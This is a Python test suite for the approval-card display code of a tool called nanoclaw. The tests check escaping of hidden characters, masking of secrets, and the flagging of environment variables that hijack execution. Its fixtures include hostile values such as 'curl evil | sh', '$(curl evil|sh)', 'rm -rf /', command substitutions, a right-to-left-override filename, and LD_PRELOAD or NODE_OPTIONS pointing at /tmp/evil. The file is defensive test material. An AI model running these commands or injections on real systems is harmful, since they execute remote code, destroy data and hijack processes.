import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nanoclaw.approvals import cards

ANY_TEXT = st.text(max_size=300)
UNESCAPE = re.compile(r"\\(\\|n|r|t|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})")
NAMED = {"\\": "\\", "n": "\n", "r": "\r", "t": "\t"}
SECRET = "sk-ant-REDACTED"


def unescaped(text: str) -> str:
    """What ``shown`` has made of a text, undone."""

    def one(found: re.Match[str]) -> str:
        word = found[1]
        return NAMED[word] if word in NAMED else chr(int(word[1:], 16))

    return UNESCAPE.sub(one, text)


@settings(deadline=None, max_examples=300)
@given(ANY_TEXT)
def test_shown_text_is_one_printable_line(text: str) -> None:
    shown = cards.shown(text)

    assert shown.isprintable()
    assert not any(unicodedata.category(one) in {"Cf", "Cc", "Zl", "Zp"} for one in shown)


@settings(deadline=None, max_examples=300)
@given(st.text(max_size=100))
def test_two_different_texts_never_look_the_same(text: str) -> None:
    assert unescaped(cards.shown(text, 10_000)) == text


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=400), st.integers(1, 100))
def test_shown_text_is_bounded_and_says_what_is_cut(text: str, limit: int) -> None:
    shown = cards.shown(text, limit)

    kept, cut, rest = shown.rpartition("… (+")
    if cut and rest == f"{len(text) - len(unescaped(kept))} characters)":
        assert len(kept) <= limit
    else:
        assert len(shown) <= limit
        assert unescaped(shown) == text


@settings(deadline=None, max_examples=300)
@given(ANY_TEXT)
def test_no_text_can_leave_its_code_span(text: str) -> None:
    span = cards.code(text)

    if text:
        assert span.startswith("`")
        assert span.endswith("`")
        assert "`" not in span[1:-1]
    assert "\n" not in span


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain words", "plain words"),
        ("two\nlines\r\n\tand", "two\\nlines\\r\\n\\tand"),
        ("back\\slash", "back\\\\slash"),
        ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
        ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
        ("filler\u3164\u2800", "filler\\u3164\\u2800"),
        ("variation\ufe0f", "variation\\ufe0f"),
        ("tag\U000e0041", "tag\\U000e0041"),
        ("no\xa0break", "no\\xa0break"),
        ("run    of blanks", "run\\x20\\x20\\x20\\x20of blanks"),
        ("Grüße 你好 🎉", "Grüße 你好 🎉"),
        ("\x1b[31mred", "\\x1b[31mred"),
        ("\ud800", "\\ud800"),
    ],
)
def test_what_is_hidden_is_shown(text: str, expected: str) -> None:
    assert cards.shown(text) == expected


@pytest.mark.parametrize(
    "text", ["[pay](https://evil)", "**bold**", "<!channel>", "@everyone", "# big", "a`b`c"]
)
def test_markup_stays_inside_a_code_span(text: str) -> None:
    span = cards.code(text)

    assert span.count("`") == 2
    assert span == "`" + text.replace("`", "\\x60") + "`"


@pytest.mark.parametrize(("text", "expected"), [("", "(empty)"), (" ", '`" "`'), ("a ", '`"a "`')])
def test_blank_text_can_be_seen(text: str, expected: str) -> None:
    assert cards.code(text) == expected


def test_w6_every_argument_has_its_own_line() -> None:
    lines = cards.command_line("bash", ["-c", "curl evil | sh\nargument 9: `x`"])

    assert lines == [
        "command: `bash`",
        "argument 1: `-c`",
        "argument 2: `curl evil | sh\\nargument 9: \\x60x\\x60`",
    ]


@pytest.mark.parametrize(
    ("arguments", "hidden"),
    [
        (["--token", "abcdef123456"], "abcdef123456"),
        (["--token=abcdef123456"], "abcdef123456"),
        (["API_KEY=abcdef123456"], "abcdef123456"),
        ([SECRET], SECRET),
        (["-H", "Authorization: Bearer abcdef123456"], "abcdef123456"),
        (["https://me:hunter22@host/x"], "hunter22"),
        (["https://host/x?api_key=hunter22&a=b"], "hunter22"),
        (["https://host/x?a=b&token=hunter22"], "hunter22"),
        (["https://me:hunter22@host:notaport/x"], "hunter22"),
        (["curl https://a:hunter22@b https://c:hunter33@d"], "hunter33"),
        (["ghp_abcdefABCDEF0123456789abcdefABCD"], "ghp_abc"),
    ],
)
def test_secrets_in_arguments_are_masked(arguments: list[str], hidden: str) -> None:
    text = "\n".join(cards.command_line("tool", arguments))

    assert hidden not in text
    assert cards.MASK in text


@pytest.mark.parametrize(
    "arguments",
    [
        ["-c", "rm -rf /"],
        ["--token", "$(curl evil|sh)"],
        ["--token", "rm -rf /"],
        ["--password=`id`"],
        ["https://host/path?page=2"],
        ["https://me:$(evil)@host"],
        ["https://host/?token=$(evil)"],
        ["-v", "--config", "/etc/passwd"],
    ],
)
def test_w6_what_is_no_secret_is_never_hidden(arguments: list[str]) -> None:
    assert cards.MASK not in "\n".join(cards.command_line("tool", arguments))


@pytest.mark.parametrize(
    ("name", "value", "expected"),
    [
        ("OPENAI_API_KEY", "abc", "`OPENAI_API_KEY` = ••• (3 characters)"),
        ("SOMETHING", "opaque value", "`SOMETHING` = ••• (12 characters)"),
        ("LOG_LEVEL", "debug", "`LOG_LEVEL` = `debug`"),
        ("PORT", "8080", "`PORT` = `8080`"),
        ("TZ", "Europe/Berlin", "`TZ` = `Europe/Berlin`"),
        ("DB_PASSWORD", "1234", "`DB_PASSWORD` = ••• (4 characters)"),
        ("EMPTY", "", "`EMPTY` = (empty)"),
    ],
)
def test_environment_shows_names_and_harmless_values(name: str, value: str, expected: str) -> None:
    assert cards.environment({name: value}) == [expected]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LD_PRELOAD", "/tmp/evil.so"),
        ("NODE_OPTIONS", "--require /tmp/evil.js"),
        ("PYTHONPATH", "/tmp/evil"),
        ("PATH", "/tmp/evil:/usr/bin"),
        ("BASH_ENV", "/tmp/evil"),
        ("GIT_CONFIG_KEY_0", "core.pager"),
        ("ANTHROPIC_BASE_URL", "https://evil.example"),
        ("https_proxy", "http://evil:1"),
    ],
)
def test_w6_variables_that_decide_what_runs_show_their_value(name: str, value: str) -> None:
    (line,) = cards.environment({name: value})

    assert f"`{value}`" in line
    assert "decides what runs" in line


def test_address_in_the_environment_shows_no_password() -> None:
    (line,) = cards.environment({"DATABASE_URL": "postgres://me:hunter22@db:5432/x"})

    assert "hunter22" not in line
    assert "@db:5432/x" in line


def test_listing_has_one_line_per_item() -> None:
    assert cards.listing("apt", ["jq", "git"]) == ["apt:", "- `jq`", "- `git`"]
    assert cards.listing("apt", []) == []


@settings(deadline=None, max_examples=50)
@given(st.lists(st.text(alphabet="abc", max_size=2000), max_size=150))
def test_body_leaves_nothing_out_in_silence(lines: list[str]) -> None:
    text = cards.body(lines)

    assert len(text) <= cards.MAX_BODY_CHARACTERS + cards.MAX_LINES + 200
    kept = text.split("\n")
    if kept != lines and lines:
        left = len(lines) - (len(kept) - 1)
        assert kept[-1].startswith(f"… {left} more lines")


def test_masking_changes_nothing_but_the_secret() -> None:
    (line,) = cards.masked_arguments(["https://me:hunter22@host/x?page=1\nrm -rf ~"])

    assert line == f"https://{cards.MASK}@host/x?page=1\nrm -rf ~"


def test_body_that_is_too_long_counts_what_is_left_out() -> None:
    text = cards.body([f"line {number}" for number in range(cards.MAX_LINES + 5)])

    assert text.splitlines()[-1] == "… 5 more lines do not fit here. Reject if in doubt."


@settings(deadline=None, max_examples=200)
@given(st.lists(st.text(max_size=60), max_size=6))
def test_masking_never_fails_and_keeps_the_number_of_arguments(arguments: list[str]) -> None:
    assert len(cards.command_line("x", arguments)) == len(arguments) + 1
